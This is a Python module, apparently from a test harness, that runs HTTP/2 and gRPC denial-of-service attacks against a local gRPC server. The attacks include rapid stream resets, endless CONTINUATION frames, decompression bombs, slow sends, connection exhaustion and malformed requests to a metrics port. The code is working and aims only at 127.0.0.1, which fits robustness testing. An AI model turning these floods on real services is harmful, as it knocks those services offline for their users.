"""Attacks on the transport: frames, headers, connections and messages that no service sees, or not as a whole."""
import random
import socket
import struct
import threading
import time

from attacks.requests import layer, options
from http2_client import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SERVICE, SETTINGS,
                          WINDOW_UPDATE, Connection, Window, bomb, field, frame, literal, message)

HEALTH = "/grpc.health.v1.Health/Check"
WATCH = "/grpc.health.v1.Health/Watch"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"


def until(end, step):
    while time.monotonic() < end:
        if step() is False:
            return


def patiently(step):
    """The same, but for a moment's rest where the server has had enough."""
    def patient_step():
        try:
            step()
        except OSError:
            time.sleep(0.05)

    return patient_step


def rapid_reset(server, end):
    """Calls that are reset at once."""
    connection = Connection(server.port)

    def step():
        nonlocal connection
        block = b""
        for _ in range(100):
            stream = connection.next_stream
            connection.next_stream += 2
            block += frame(HEADERS, END_HEADERS, stream, connection.headers(server.methods[0]))
            block += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        if not connection.send(block):
            connection.close()
            connection = Connection(server.port)

    until(end, step)
    connection.close()


def resets_of(methods, deadline=None):
    """The same elsewhere: calls that no code of the service sees, or that are late before they are looked at."""
    def attack(server, end):
        dice = random.Random(13)
        connection = None

        def step():
            nonlocal connection
            if connection is None:
                connection = Connection(server.port)
                connection.socket.settimeout(0.3)
            block = b""
            for _ in range(100):
                stream = connection.next_stream
                connection.next_stream += 2
                extra = [("grpc-timeout", dice.choice(deadline))] if deadline else ()
                block += frame(HEADERS, END_HEADERS, stream, connection.headers(dice.choice(methods), extra))
                if deadline is None:
                    block += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            if not connection.send(block):
                connection.close()
                connection = None

        until(end, patiently(step))
        if connection is not None:
            connection.close()

    return attack


def half_closed(server, end):
    """Streams that end twice, send headers in the middle of a message, data after the end, or windows that overflow."""
    dice = random.Random(17)
    body = message(server.small_job)

    def step():
        connection = Connection(server.port)
        for _ in range(10):
            stream = connection.call(dice.choice(server.methods))
            pieces = [frame(DATA, 0, stream, body[:len(body) // 2]), frame(DATA, END_STREAM, stream, body[len(body) // 2:]),
                      frame(HEADERS, END_HEADERS | END_STREAM, stream, literal("x-late", "1")), frame(DATA, END_STREAM, stream),
                      frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0x7FFFFFFF)), frame(DATA, 0, stream + 2, b"early"),
                      frame(RST_STREAM, 0, stream, struct.pack(">I", dice.randrange(20)))]
            dice.shuffle(pieces)
            if not connection.send(b"".join(pieces[:dice.randint(1, len(pieces))])):
                break
        connection.drain(dice.choice([0.001, 0.02]))
        connection.close()

    until(end, step)


def half_prefaces(server, end):
    """Connections that never come to their settings: nothing, half a preface, a handshake of TLS, HTTP/1.1."""
    dice = random.Random(19)
    held = []
    beginnings = [b"", b"PRI * HTTP", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(32), b"POST / HTTP/1.1\r\nHost: a\r\n"]

    def step():
        try:
            held.append(socket.create_connection(("127.0.0.1", server.port), timeout=1))
            held[-1].sendall(dice.choice(beginnings))
        except OSError:
            time.sleep(0.02)
        if len(held) > 800:
            held.pop(0).close()

    until(end, step)
    for connection in held:
        connection.close()


def endless_headers(server, end):
    """CONTINUATION frames without an end."""
    connection = Connection(server.port)
    connection.send(frame(HEADERS, 0, 1, connection.headers(server.methods[0])))
    block = b"".join(frame(CONTINUATION, 0, 1, b"".join(literal(f"x-{i}", "v" * 100) for i in range(120))) for _ in range(16))

    def step():
        nonlocal connection
        connection.socket.settimeout(max(0.05, end - time.monotonic()))  # a server may stop reading instead of closing
        if not connection.send(block):
            connection.close()
            connection = Connection(server.port)
            connection.send(frame(HEADERS, 0, 1, connection.headers(server.methods[0])))

    until(end, step)
    connection.close()


def control_frames(server, end):
    """Pings and settings by the thousand, whose answers nobody reads."""
    connection = Connection(server.port)
    block = (frame(PING, 0, 0, b"12345678") + frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100))) * 1000

    def step():
        nonlocal connection
        if not connection.send(block):
            connection.close()
            connection = Connection(server.port)

    until(end, step)
    connection.close()


def many_headers(server, end):
    """Header fields by the thousand."""
    connection = Connection(server.port)
    extra = [(f"x-{i}", "") for i in range(1000)]

    def step():
        nonlocal connection
        if not connection.send(frame(HEADERS, END_HEADERS | END_STREAM, connection.next_stream,
                                     connection.headers(server.methods[0], extra)[:16000])):
            connection.close()
            connection = Connection(server.port)
        else:
            connection.next_stream += 2

    until(end, step)
    connection.close()


def unfinished(methods, connections, megabytes):
    def attack(server, end):
        def one(method):
            while time.monotonic() < end:
                try:
                    connection = Connection(server.port)
                except OSError:
                    time.sleep(0.05)
                    continue
                stream = connection.call(method)
                body = bytes([0]) + struct.pack(">I", (megabytes << 20) + 1) + bytes(megabytes << 20)
                Window(connection).send(stream, body, patience=0.5)
                while time.monotonic() < end and connection.send(frame(PING, 0, 0, b"12345678")):
                    time.sleep(0.2)
                connection.close()

        threads = [threading.Thread(target=one, args=(methods[i % len(methods)],)) for i in range(connections)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    return attack


def bombs(server, end):
    """A few bytes that unpack to many."""
    body = message(bomb(60), compressed=True)

    def step():
        for method in (*server.methods, HEALTH, REFLECTION):
            connection = Connection(server.port)
            stream = connection.call(method, [("grpc-encoding", "gzip")])
            Window(connection).send(stream, body, patience=0.2)
            connection.drain(0.05)
            connection.close()

    until(end, step)


def stated_sizes(server, end):
    """Headers that state a size which never comes."""
    held = []

    def step():
        if len(held) < 40:
            connection = Connection(server.port)
            connection.call(SERVICE + "OptimizeBatch", [("traverse-message-bytes", "2147483647")])
            held.append(connection)
        time.sleep(0.05)

    until(end, step)
    for connection in held:
        connection.close()


def idle_connections(server, end):
    """As many connections as there are files, and more."""
    held = []

    def step():
        try:
            held.append(Connection(server.port))
        except OSError:
            time.sleep(0.05)
        if len(held) >= 600:
            time.sleep(0.1)

    until(end, step)
    for connection in held:
        connection.close()


def one_byte_a_time(server, end):
    """A message in single bytes."""
    connection = Connection(server.port)
    stream = connection.call(server.methods[1])
    body = message(server.small_job)

    def step():
        for at in range(len(body)):
            if time.monotonic() > end or not connection.send(frame(DATA, 0, stream, body[at:at + 1])):
                return False
            time.sleep(0.005)
        return False

    until(end, step)
    time.sleep(max(0.0, end - time.monotonic()))
    connection.close()


def operators_port(server, end):
    """Scrapes whose answers nobody reads, requests without an end, and rubbish, at the port of the operators."""
    dice = random.Random(29)
    held = []
    requests = [b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n" * 300, b"GET /" + b"a" * 100_000, b"GET /metrics HTTP/1.1\r\n" + b"a: b\r\n" * 5000,
                b"POST /metrics HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999\r\n\r\n" + b"a" * 50_000, b"G",
                b"PUT /healthz HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n", dice.randbytes(3000)]

    def step():
        connection = socket.create_connection(("127.0.0.1", server.metrics_port))
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        connection.setblocking(False)
        held.append(connection)
        connection.send(dice.choice(requests))
        if len(held) > 200:
            held.pop(0).close()

    until(end, patiently(step))
    for connection in held:
        connection.close()


def many_channels(server, end):
    """New connections as fast as they come, with a call each."""
    def step():
        connection = Connection(server.port)
        connection.call(server.methods[-1], [(f"x-{i}", "v" * 500) for i in range(20)], END_HEADERS | END_STREAM)
        connection.close()

    until(end, step)


def left_open(method):
    """Calls that stay open by themselves, a hundred on each of many connections that come and go."""
    def attack(server, end):
        dice = random.Random(29)
        held = []

        def step():
            if len(held) >= 60:
                held.pop(dice.randrange(len(held))).close()
            connection = Connection(server.port)
            for _ in range(100):
                stream = connection.call(method)
                connection.send(frame(DATA, 0, stream, message(b"")))
            held.append(connection)

        until(end, patiently(step))
        for connection in held:
            connection.close()

    return attack


def unread_reflections(server, end):
    """Questions by the thousand on one stream, whose long answers nobody reads."""
    question = b"".join(message(field(4, name)) for name in (b"traverse.v1.RouteOptimizerService", b"traverse.v1.Layer")) * 300
    held = []

    def step():
        if len(held) < 30:
            connection = Connection(server.port, window=0)
            held.append((connection, connection.call(REFLECTION), Window(connection)))
        for connection, stream, window in held:
            window.send(stream, question, patience=0.01)
        time.sleep(0.01)

    until(end, patiently(step))
    for connection, _, _ in held:
        connection.close()
